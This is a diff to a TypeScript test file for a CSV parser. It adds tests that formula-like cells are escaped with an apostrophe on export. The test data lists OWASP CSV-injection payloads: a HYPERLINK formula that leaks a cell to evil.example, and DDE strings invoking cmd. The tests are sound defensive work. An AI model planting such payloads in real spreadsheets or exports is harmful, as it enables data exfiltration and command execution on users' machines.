@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { formatCsv, parseCsv } from "../../src/data/csv.ts";
+import { formatCsv, parseCsv, servedCsv } from "../../src/data/csv.ts";
 
 const values = (text: string) => parseCsv(text).records.map((r) => r.cells.map((c) => c.value));
 
@@ -27,6 +27,12 @@ describe("parseCsv", () => {
     expect(third!.cells[1]).toMatchObject({ value: "r", line: 4, column: 3, quoted: true });
   });
 
+  it("counts a lone CR inside a quoted field as a line break, as in files from old Macs", () => {
+    const [, second, third] = parseCsv('a,b\r"x\ry\rz",w\rq,r\r').records;
+    expect(second!.cells.map((c) => [c.line, c.column])).toEqual([[2, 1], [4, 4]]);
+    expect(third!.cells.map((c) => [c.line, c.column])).toEqual([[5, 1], [5, 3]]);
+  });
+
   it("keeps empty cells, including a trailing one", () => {
     expect(values("a,b,c\n1,,\n")).toEqual([["a", "b", "c"], ["1", "", ""]]);
   });
@@ -51,5 +57,26 @@ describe("parseCsv", () => {
   it("round-trips what formatCsv writes", () => {
     const rows = [["id", "text"], ["1", 'comma, "quote"\nnewline'], ["2", " padded "]];
     expect(values(formatCsv(rows))).toEqual(rows);
+  });
+});
+
+describe("CSV downloads", () => {
+  // OWASP's CSV-injection examples: each would run as a formula if a spreadsheet opened it raw.
+  const hostile = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
+
+  it("put an apostrophe before every cell a spreadsheet would read as a formula, and quote it", () => {
+    const text = formatCsv([["text"], ...hostile.map((h) => [h])]);
+    expect(text.split("\n")[1]).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
+    expect(text.split("\n")[2]).toBe(`"'+cmd|' /C calc'!A0"`);
+    expect(values(text).slice(1).map((r) => r[0])).toEqual(hostile.map((h) => `'${h}`));
+  });
+
+  it("leave plain numbers, negative ones included, and ordinary text as they are", () => {
+    expect(formatCsv([["-12.5", "+3", "1e-3", "Lviv", "a=b", "email@example.org"]])).toBe("-12.5,+3,1e-3,Lviv,a=b,email@example.org\n");
+  });
+
+  it("serve a maintained table with the same cells, neutralising only formula cells", () => {
+    const maintained = 'id,name,note\r\nact-a,"Ann",=1+1\r\nact-b,Bob,-4\r\n';
+    expect(servedCsv(maintained)).toBe("id,name,note\nact-a,Ann,\"'=1+1\"\nact-b,Bob,-4\n");
   });
 });
